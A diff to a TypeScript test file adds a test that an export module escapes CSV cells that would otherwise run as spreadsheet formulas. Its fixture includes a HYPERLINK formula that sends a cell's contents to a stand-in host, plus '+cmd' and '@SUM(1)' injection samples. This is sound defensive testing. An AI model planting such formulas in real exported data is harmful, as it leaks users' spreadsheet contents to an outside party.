@@ -23,6 +23,15 @@ describe("export formats", () => {
     expect(records[1]!.confidence).toBe("");
     expect(records[0]!.labelId).toBe("");
   });
+  it("CSV text cells that a spreadsheet would run as formulas get a leading quote; JSON cells stay JSON", () => {
+    const hostile = { ...row, workflow: '=HYPERLINK("http://x/?"&A2,"x")', step: "+cmd", reason: "@SUM(1)", output: -5, corrected: { amount: -1 } };
+    const [record] = parse(exportHeader("csv") + exportRow("csv", hostile), { columns: true }) as Array<Record<string, string>>;
+    expect(record!.workflow).toBe(`'${hostile.workflow}`);
+    expect(record!.step).toBe("'+cmd");
+    expect(record!.reason).toBe("'@SUM(1)");
+    expect(JSON.parse(record!.output!)).toBe(-5);
+    expect(JSON.parse(record!.corrected!)).toEqual({ amount: -1 });
+  });
   it("CSV keeps a JSON null apart from an absent value", () => {
     const text = exportHeader("csv") + exportRow("csv", { ...row, decision: "reject", corrected: null, alternatives: null, reason: null });
     const [record] = parse(text, { columns: true }) as Array<Record<string, string>>;
